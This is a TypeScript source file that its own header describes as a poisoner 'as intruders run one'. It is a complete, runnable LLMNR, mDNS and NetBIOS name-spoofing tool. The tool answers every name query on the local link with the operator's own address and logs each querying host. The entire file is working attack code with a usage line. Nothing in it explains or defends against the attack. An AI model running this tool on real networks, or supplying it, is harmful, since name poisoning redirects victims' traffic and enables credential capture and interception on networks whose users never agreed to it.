/**
 * A poisoner, as intruders run one: says "that is me" to every question of LLMNR, mDNS and NetBIOS that it hears on its
 * link, and prints which it heard. `node poisoner-main.ts OWN_ADDRESS`.
 */
import {createSocket} from 'node:dgram'

const own = process.argv[2] ?? '127.0.0.1'
const ADDRESS = Buffer.from(own.split('.').map(Number))
const HEADER = 12

/** Header, question, and an answer that points to it (RFC 1035 §4.1). */
function claim(question: Buffer): Buffer {
  const header = Buffer.from(question.subarray(0, HEADER))
  header.writeUInt16BE(0x8400, 2)
  header.writeUInt16BE(1, 6)
  const answer = Buffer.concat([Buffer.from('c00c000100010000001e0004', 'hex'), ADDRESS])
  return Buffer.concat([header, question.subarray(HEADER), answer])
}

/** The name is in the answer in full (RFC 1002 §4.2.13). */
function netbiosClaim(question: Buffer): Buffer {
  const header = Buffer.from('000085000000000100000000', 'hex')
  question.copy(header, 0, 0, 2)
  return Buffer.concat([header, question.subarray(HEADER), Buffer.from('0000003c00060000', 'hex'), ADDRESS])
}

function poison(protocol: string, port: number, group: string | null, answer: (question: Buffer) => Buffer): void {
  const socket = createSocket({type: 'udp4', reuseAddr: true})
  socket.on('message', (question, {address, port: from}) => {
    if (address === own || question.length < HEADER || (question.readUInt16BE(2) & 0x8000) !== 0) return
    process.stdout.write(`${protocol} ${address}\n`)
    socket.send(answer(question), from, address)
  })
  socket.bind(port, '0.0.0.0', () => {
    if (group !== null) socket.addMembership(group, own)
    process.stdout.write(`listening ${protocol}\n`)
  })
}

poison('llmnr', 5355, '224.0.0.252', claim)
poison('mdns', 5353, '224.0.0.251', claim)
poison('nbns', 137, null, netbiosClaim)
